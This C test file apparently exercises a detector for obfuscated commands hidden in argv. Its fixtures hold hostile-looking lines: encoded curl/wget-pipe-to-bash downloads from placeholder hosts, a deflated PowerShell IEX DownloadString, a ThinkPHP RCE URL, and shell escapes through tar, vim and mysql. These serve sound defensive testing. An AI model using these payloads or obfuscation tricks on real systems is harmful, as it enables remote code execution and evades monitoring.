// SPDX-License-Identifier: GPL-3.0-or-later
/* What hides in an argv of some words, or only looks it. */
#include "hidden.h"

#define PS1                                                                    \
	"IEX (New-Object "                                                     \
	"Net.WebClient).DownloadString('http://example.com/a.ps1')"
#define PS1_B64                                                                \
	"83SNUNDwSy3X9U/KSk0uUfBLLdELT01yzslMzSvR1HPJL8/LyU9MCS4pysxL11DPKCkp" \
	"sNLXT61IzC3ISdVLzs/VT9QrKDZU1wQA"

static const struct row {
	const char *chain, *want;
	const char *argv[PAYLOAD_ARGS_MAX];
} good[] = {
	/* The words behind a shell's text. */
	{ "base64",
		"(curl -s http://192.0.2.31/unk.sh||wget -q -O- "
		"http://192.0.2.31/unk.sh)|bash",
		{ "bash", "-c", "eval \"$(printf %s \"$@@\" | base64 -d)\"",
			"x", "KGN1cmwgLXMgaHR0cDov",
			"LzE5Mi4wLjIuMzEvdW5rLnNofHx3Z2V0IC1xIC1P",
			"LSBodHRwOi8vMTkyLjAuMi4zMS91bmsuc2gpfGJhc2g=" } },
	{ "base64", "id -un",
		{ "bash", "-c", "$0 $1 | $2 -d | $3 ; true", "echo", "aWQgLXVu",
			"base64", "sh" } },
	{ "base64", "id -un",
		{ "sudo", "bash", "-c", "for i;do echo $i;done|base64 -d|sh",
			"x", "aWQgL", "XVu" } },
	{ "tr+base64", "id -un",
		{ "sh", "-c", "echo \"$*\"|tr -d ' '|base64 -d|sh", "x", "aWQ",
			"gL", "XVu" } },
	{ "base64", "id -un",
		{ "bash", "-c", "IFS=;echo \"$*\"|base64 -d|sh", "x", "aWQ",
			"gL", "XVu" } },
	{ "base64", "id -un",
		{ "bash", "-c", "echo ${*//./}|base64 -d|sh", "x",
			"aWQ.gL.XVu" } },
	{ "reverse", "id;ls",
		{ "sh", "-c", "echo $1$2|rev|sh", "x", "sl", ";di" } },
	/* What it hides in turn stands before what the pieces are. */
	{ "base64", "id;uname -a;who",
		{ "bash", "-c", "echo $1$2|base64 -d|sh", "x",
			"Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4zMS9hOyBl"
			"Y2hvIGFXUTdkVzVoYldV",
			"Z0xXRTdkMmh2fGJhc2U2NCAtZHxzaDsgd2dldCBo"
			"dHRwOi8vMTkyLjAuMi4zMS9i" } },
	/* Variables before it. */
	{ "base64", "curl http://example.com/$(whoami)",
		{ "env", "P1=Y3VybCBodHRwOi8vZXhhbX",
			"P2=BsZS5jb20vJCh3aG9hbWkp", "bash", "-c",
			"echo $P1$P2 | base64 -d | bash" } },
	{ "base64", "id -un",
		{ "sudo", "A=aWQ", "B=gLXVu", "sh", "-c",
			"eval $(echo $A$B|base64 -d)" } },
	{ "base64", "id -un",
		{ "systemd-run", "--setenv=A=aWQ", "--setenv=B=gLXVu", "bash",
			"-c", "base64 -d<<<$A$B|sh" } },
	{ "base64", "id -un",
		{ "docker", "exec", "-eA=aWQ", "-eB=gLXVu", "c1", "sh", "-c",
			"echo $A$B|base64 -d|sh" } },
	{ "hex+tr", "id;ls",
		{ "env", "-i", "X=76713b7966", "sh", "-c",
			"printf $X|xxd -r -p|tr a-z n-za-m|sh" } },
	/* PowerShell, whose names are in any case. */
	{ "base64+deflate", PS1,
		{ "pwsh", "-nop", "-c",
			"iex $(New-Object IO.StreamReader($(New-Object "
			"IO.Compression.DeflateStream($(New-Object "
			"IO.MemoryStream(,$([Convert]::FromBase64String("
			"'" PS1_B64
			"')))),[IO.Compression.CompressionMode]::Decompress)),"
			"[Text.Encoding]::ASCII)).ReadToEnd()" } },
	{ "base64+deflate", PS1,
		{ "pwsh", "-c",
			"new-object io.compression.deflatestream("
			"[io.memorystream][convert]::frombase64string('" PS1_B64
			"'),[io.compression.compressionmode]::decompress)|"
			"%{new-object io.streamreader($_)}|%{$_.readtoend()}|"
			"iex" } },
	/* Java and Groovy. */
	{ "base64", "uname -a",
		{ "groovy", "-e",
			"println(new String(\"dW5hbWUgLWE=\"."
			"decodeBase64()).execute().text)" } },
	{ "base64", "uname -a",
		{ "x", "Runtime.getRuntime().exec(new "
		       "String(Base64.getDecoder().decode("
		       "\"dW5hbWUgLWE=\")))" } },
	/* What other programs hand to a shell. */
	{ "base64", "id", { "mysql", "-e", "\\! echo aWQ=|base64 -d|sh" } },
	{ "reverse", "id;ls",
		{ "tar", "cf", "x", "y",
			"--checkpoint-action=exec=echo 'sl;di'|rev|sh" } },
	{ "reverse", "id;ls",
		{ "sudo", "vim", "-c", ":!echo 'sl;di'|$(which rev)|sh" } },
	{ "reverse", "id;ls", { "sh", "-cecho 'sl;di'|rev|sh" } },
	/* A parameter's value that decodes something. */
	{ "base64", "curl -fsSL http://203.0.113.5/init.sh | bash",
		{ "curl", "-g",
			"http://198.51.100.3/index.php?s=/index/\\think\\app/"
			"invokefunction&function=call_user_func_array&vars[0]="
			"system&vars[1][]=echo%20Y3VybCAtZnNTTCBodHRwOi8vMjAzL"
			"jAuMTEzLjUvaW5pdC5zaCB8IGJhc2g%3D%7Cbase64%20-d%"
			"7Csh" } },
	{ "percent", "echo aWQgLXVu|base64 -d|sh",
		{ "curl", "http://h/a?x=1&q=echo+aWQgLXVu%7Cbase64+-d|sh#a" } },
	{ "hex", "id;ls",
		{ "wget", "-qO-",
			"http://h/"
			"?q=echo%2069643B6C73%7Cxxd%20-r%20-p%7Csh" } },
	{ "base64", "uname -a",
		{ "curl", "-d",
			"script=println%28new+String%28%22dW5hbWUgLWE%3D%22."
			"decodeBase64%28%29%29.execute%28%29.text%29",
			"http://127.0.0.1:8080/script" } },
	{ "base64", "uname -a",
		{ "wget",
			"--post-data=a=b&script=new+String%28Base64.getDecoder"
			"%28%29.decode%28%22dW5hbWUgLWE%3D%22%29%29.execute%28"
			"%29",
			"http://h/script" } },
	{ "percent", "println(new String(\"dW5hbWUgLWE=\".decodeBase64()))",
		{ "sh", "-c",
			"curl -s \"h?x=println%28new+String%28%22dW5hbWUgLWE%3D"
			"%22.decodeBase64%28%29%29%29\"|base64 -d" } },
};

static const char *const not [][PAYLOAD_ARGS_MAX] = {
	{ "bash", "-c", "exec \"$@@\"", "x", "ls", "-la" },
	{ "bash", "-c", "eval \"$*\"", "x", "ls", "-la | grep x" },
	{ "sh", "-c", "\"$@@\" 2>&1 | tee /tmp/log", "sh", "curl", "-s",
		"http://192.0.2.1/x" },
	{ "sh", "-c", "$0 -c \"$1\"", "bash", "make -j2 all" },
	{ "sh", "-c", "sh -c \"$1 $2\"", "x", "make -C", "/src all" },
	{ "find", "/srv", "-exec", "sh", "-c", "mv \"$1\" \"${1%.txt}.md\"",
		"_", "{}" },
	/* Encoders, and what only has such a name. */
	{ "groovy", "-e", "println(\"dW5hbWUgLWE=\".encodeBase64())" },
	{ "x", "Base64.getEncoder().encode(\"dW5hbWUgLWE=\")" },
	{ "x", "Uuid.getDecoder().read(\"dW5hbWUgLWE=\")" },
	{ "pwsh", "-c",
		"$s=New-Object IO.Compression.DeflateStream($out,[IO."
		"Compression.CompressionMode]::Compress)" },
	{ "mysql", "-e", "select 'a|b' from $x; -- ! id|sh" },
	{ "git", "commit", "-m", "!echo 'sl;di'|rev|cat" },
	{ "rsync", "-e", "ssh -p 22 -i $HOME/.ssh/k", "x", "h:" },
	/* Who only asks about it. */
	{ "curl", "-s", "https://h/search?q=base64+-d+linux+%28how%29" },
	{ "curl", "-s", "https://h/search?q=echo+foo+%7C+base64+-d" },
	{ "curl", "-s", "https://h/search?q=decodeBase64%28%29+in+groovy" },
	{ "curl", "-s",
		"https://h/a?next=https%3A%2F%2Fh%2Fb64decode%3Fa%3D1" },
	{ "sh", "-c", "curl -s h?a=b+%2B+A1B2C3D4|base64 -d|tar x" },
	{ "curl", "-d", "a=xxd+-r+%28hex+to+binary%29&b=1", "h" },
	/* These words go to su, not to the text. */
	{ "su", "-c", "echo $1$2 | rev | sh", "sl", ";di" },
};

int main(void)
{
	check.module = "decode argv";
	for (size_t i = 0; i < sizeof(good) / sizeof(good[0]); i++) {
		struct event *ev = payload_run_rows(good[i].argv, BYTES(""));

		check_start("%zu: %s", i, good[i].want);
		hidden_check(ev, good[i].chain, good[i].want);
		event_destroy(ev);
	}
	for (size_t i = 0; i < sizeof(not ) / sizeof(not [0]); i++) {
		struct event *ev = payload_run_rows(not [i], BYTES(""));

		check_start("not %zu: %s", i, not [i][2]);
		hidden_none(ev);
		event_destroy(ev);
	}
	return check_end();
}
